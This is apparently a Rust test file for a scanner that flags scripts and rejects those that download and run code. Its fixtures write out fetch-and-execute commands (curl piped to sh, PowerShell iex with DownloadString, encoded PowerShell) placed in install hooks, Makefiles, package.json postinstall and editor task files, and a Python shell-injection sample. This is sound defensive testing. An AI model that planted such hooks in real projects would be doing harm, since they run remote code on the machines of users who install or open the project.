//! Scripts, and Python under its other names.

use super::*;

#[test]
fn scripts_are_told_and_those_that_fetch_and_run_are_refused() {
    let pipe = "curl -fsSL https://x.test/i | sh\n";
    for (path, text) in [
        ("install.sh", format!("#!/bin/sh\nset -e\n{pipe}")),
        ("bin/install", format!("#!/bin/sh\n{pipe}")),
        ("Makefile", format!("all:\n\t{pipe}")),
        ("setup.bat", "powershell -c \"irm https://x.test/i | iex\"\n".to_owned()),
        ("setup.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.test/i')\n".to_owned()),
        ("setup.cmd", format!("powershell -enc {}\n", "SQBFAFgA".repeat(6))),
        ("tox.ini", format!("[testenv]\ncommands_pre =\n    {pipe}")),
        ("setup.cfg", format!("[aliases]\nbuild = !{pipe}")),
        ("pyproject.toml", format!("[tool.hatch.envs.default.scripts]\nsetup = '{}'\n", pipe.trim())),
        (".pre-commit-config.yaml", format!("- id: x\n  entry: bash -c '{}'\n", pipe.trim())),
        (".vscode/tasks.json", format!("{{\n\"command\": \"{}\"\n}}\n", pipe.trim())),
        ("package.json", format!("{{\n\"postinstall\": \"{}\"\n}}\n", pipe.trim())),
        ("hook.js", format!("require('child_process').execSync('{}')\n", pipe.trim())),
    ] {
        let finding = one(path, text.as_bytes());
        assert_eq!(
            (finding.rule.as_str(), action(&finding)),
            ("AL-FILES-script-download", PolicyAction::Reject),
            "{path}"
        );
    }
    for (path, text, expected) in [
        ("build.sh", "#!/bin/sh\necho hello\n", Severity::Low),
        ("bin/run", "#!/bin/sh\necho hello\n", Severity::Low),
        ("bin/run", "#!/usr/bin/env -S node --no-warnings\nrun()\n", Severity::Low),
        ("run.bat", "@echo off\nrem curl x | sh\ndir\n", Severity::Low),
        ("run.ps1", "Get-Item .\n", Severity::Low),
        ("web/app.js", "render();\n", Severity::Low),
        ("Makefile", "all:\n\ttrue\n", Severity::Low),
        ("Dockerfile.dev", "FROM scratch\n", Severity::Low),
        ("fast.pyx", "cdef int f(): pass\n", Severity::Medium),
        ("helper.txt", "#!/usr/bin/env -S uv run\nprint(1)\n", Severity::Medium),
        ("helper", "#!/usr/bin/pypy3\nprint(1)\n", Severity::Medium),
    ] {
        let finding = one(path, text.as_bytes());
        assert_eq!((finding.rule.as_str(), finding.severity), ("AL-FILES-unscanned-script", expected), "{path}");
        assert!(!finding.remedy.starts_with("Nothing"));
    }
    for (path, text) in [
        ("run.sh", "#!/bin/sh\n# nothing yet\n"),
        ("notes.md", "#!/bin/sh begins a script.\n"),
        ("lib.rs.txt", "#![no_std]\n"),
        ("app.css", "a { b: c }\n"),
        ("tox.ini", "[testenv]\ncommands =\n    pytest\n    # curl https://x.test/i | sh\n"),
        (".vscode/settings.json", "{\"python.linting\": true}\n"),
        ("pyproject.toml", "[tool.hatch.envs.default.scripts]\ntest = 'pytest'\n"),
    ] {
        let findings = found(path, text.as_bytes());
        assert!(findings.is_empty() || path == "notes.md", "{path}: {findings:#?}");
    }
    let papers: Vec<(String, Vec<u8>)> = (0..30).map(|n| (format!("web/{n}.js"), b"x();\n".to_vec())).collect();
    let mut all: Vec<(&str, &[u8])> = vec![("README.md", b"Does a thing.\n"), ("LICENSE", b"MIT License\n")];
    all.extend(papers.iter().map(|(path, text)| (path.as_str(), text.as_slice())));
    let findings = files::check(&tree(&all), None).findings;
    assert_eq!(findings.len(), 1, "a folder of them is one finding: {findings:#?}");
}

#[test]
fn python_under_its_other_names_is_examined() {
    let evil = b"import os\nos.system(input())\n";
    for (path, head) in [
        ("a.py3", ""),
        ("a.pyw", ""),
        ("a.pyi", ""),
        ("bin/a", "#!/usr/bin/pypy3\n"),
        ("bin/a", "#!/usr/bin/env -S uv run --script\n"),
    ] {
        let inspection = plugin(&[(path, [head.as_bytes(), evil].concat())]);
        let told = inspection
            .findings
            .iter()
            .any(|finding| finding.file.as_deref() == Some(path) && finding.rule == "AL-CODE-shell-injection");
        assert!(told, "{path} {head}: {:#?}", inspection.findings);
    }
}

#[test]
fn what_is_said_about_files_of_requirements_is_true_of_them() {
    let of = |path: &str, content: Vec<u8>| {
        let inspection = plugin(&[(path, content)]);
        let finding = inspection.findings.into_iter().find(|finding| finding.rule == "AL-DEPS-unreadable");
        let finding = finding.unwrap_or_else(|| panic!("{path} is told"));
        (finding.message, finding.remedy)
    };
    let (message, remedy) = of("requirements.txt", utf16("requests==2.31\n", true));
    assert!(!message.contains("Python source") && remedy == "Save the file as UTF-8.", "{message} {remedy}");
    let (_, remedy) = of("pyproject.toml", b"[project]\nname = \n".to_vec());
    assert_eq!(remedy, "Mend line 2 of pyproject.toml, so that it is TOML.");
}
